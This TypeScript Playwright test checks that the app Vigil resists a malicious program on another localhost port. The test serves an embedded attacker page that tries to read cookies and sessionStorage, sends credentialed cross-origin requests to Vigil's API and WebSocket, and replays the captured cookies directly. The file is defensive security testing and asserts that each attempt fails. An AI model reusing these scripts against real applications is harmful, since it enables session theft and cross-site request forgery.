// A signed-in analyst's browser visits a page served by another program on another port of
// 127.0.0.1. Browsers scope cookies by host, not port, so that program is sent Vigil's cookies;
// it records everything it receives and replays it against Vigil, and gets nothing usable.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expect, test } from '@playwright/test';
import { WebSocket } from 'ws';
import { expectScreen, invokeFromPage, setUpThroughWizard } from './support/app';
import { startVigil, type VigilServer } from './support/vigil-server';

let vigil: VigilServer;
let other: Server;
let otherOrigin: string;
/** Every request the other program received: its headers, and what its page reported. */
const received: { url: string; headers: IncomingHttpHeaders; body: string }[] = [];

/** The other program's page: reads what it can and tries Vigil from inside the browser. */
function attackerPage(vigilOrigin: string): string {
  return `<!doctype html><title>another local app</title><script>
(async () => {
  const report = (what, value) => fetch('/report', { method: 'POST', body: JSON.stringify({ what, value }) });
  await report('document.cookie', document.cookie);
  await report('sessionStorage', JSON.stringify(Object.assign({}, sessionStorage)));
  for (const mode of ['cors', 'no-cors']) {
    try {
      const response = await fetch('${vigilOrigin}/api/invoke', {
        method: 'POST', mode, credentials: 'include',
        headers: { 'Content-Type': mode === 'cors' ? 'application/json' : 'text/plain' },
        body: JSON.stringify({ channel: 'auth.lock', input: {} }),
      });
      await report('fetch ' + mode, response.type + ' ' + response.status + ' ' + (mode === 'cors' ? await response.text() : ''));
    } catch (error) {
      await report('fetch ' + mode, 'failed: ' + error);
    }
  }
  await new Promise((resolve) => {
    const socket = new WebSocket('${vigilOrigin.replace('http:', 'ws:')}/api/events');
    socket.onopen = () => { socket.send(JSON.stringify({ type: 'hello', launchToken: 'a-guess' })); };
    socket.onmessage = (message) => report('socket message', String(message.data));
    socket.onclose = (event) => { report('socket closed', String(event.code)).then(resolve); };
  });
  await report('done', '');
})();
</script>`;
}

test.beforeEach(async () => {
  vigil = await startVigil();
  received.length = 0;
  other = createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      received.push({ url: request.url ?? '', headers: request.headers, body: Buffer.concat(chunks).toString('utf8') });
      response.setHeader('Content-Type', 'text/html; charset=utf-8');
      response.end(request.url === '/' ? attackerPage(vigil.origin) : '');
    });
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`;
});

test.afterEach(async () => {
  await new Promise((resolve) => other.close(resolve));
  await vigil.stop();
});

/** A program replaying what it was sent, straight to Vigil's port (no browser, any header it likes). */
async function replay(cookie: string, channel: string, input: unknown): Promise<{ status: number; body: string }> {
  const response = await fetch(`${vigil.origin}/api/invoke`, {
    method: 'POST', headers: { 'content-type': 'application/json', cookie }, body: JSON.stringify({ channel, input }),
  });
  return { status: response.status, body: await response.text() };
}

function replaySocket(cookie: string): Promise<{ code: number; messages: string[] }> {
  return new Promise((resolve) => {
    const messages: string[] = [];
    const socket = new WebSocket(`${vigil.origin.replace('http:', 'ws:')}/api/events`, { headers: { cookie }, origin: vigil.origin });
    socket.on('message', (data: Buffer) => messages.push(data.toString('utf8')));
    socket.on('open', () => socket.send(JSON.stringify({ type: 'hello', launchToken: cookie })));
    socket.on('close', (code: number) => resolve({ code, messages }));
    socket.on('error', () => undefined);
  });
}

test('a page on another port of 127.0.0.1 is sent the cookies but can replay nothing', async ({ page }) => {
  await setUpThroughWizard(page, vigil.url);
  // The launch token left the address bar; the page keeps it in its own sessionStorage.
  expect(page.url()).not.toContain('token=');

  const visit = await page.context().newPage();
  await visit.goto(`${otherOrigin}/`);
  await expect.poll(() => received.some((r) => r.url === '/report' && r.body.includes('"done"')), { timeout: 15_000 }).toBe(true);
  const reports = Object.fromEntries(received.filter((r) => r.url === '/report').map((r) => {
    const { what, value } = JSON.parse(r.body) as { what: string; value: string };
    return [what, value];
  }));

  // What leaks, and why the design cannot rely on cookies: the browser sent both to the other port.
  const cookie = received.find((r) => r.url === '/')?.headers.cookie ?? '';
  expect(cookie).toContain('vigil_launch=');
  expect(cookie).toContain('vigil_session=');
  // Page script there sees neither (HttpOnly), nor Vigil's sessionStorage (another origin).
  expect(reports['document.cookie']).toBe('');
  expect(reports.sessionStorage).toBe('{}');
  // From inside the browser: refused by the Origin check (the CORS preflight fails; the no-cors
  // call is refused and its answer withheld by Cross-Origin-Resource-Policy). The analyst's session
  // is not locked by either: checked below.
  expect(reports['fetch cors']).toMatch(/^failed/);
  expect(reports['fetch no-cors']).toMatch(/^(failed|opaque 0 )/);
  expect(reports['socket message']).toBeUndefined();

  // From outside the browser, with the recorded cookies and any header it wants: nothing.
  for (const [channel, input] of [['users.list', {}], ['app.status', {}], ['auth.lock', {}], ['sessions.list', {}]] as const) {
    const reply = await replay(cookie, channel, input);
    expect(reply.status, channel).toBe(403);
    expect(JSON.parse(reply.body), channel).toMatchObject({ ok: false, error: { code: 'AUTH_REQUIRED' } });
  }
  const socket = await replaySocket(cookie);
  expect(socket).toEqual({ code: 1008, messages: [] });

  // The analyst's own tab is unaffected: still signed in (not locked), still allowed.
  const users = await invokeFromPage(page, 'users.list');
  expect(users.ok).toBe(true);
  await page.reload();
  await expectScreen(page, 'app');
});
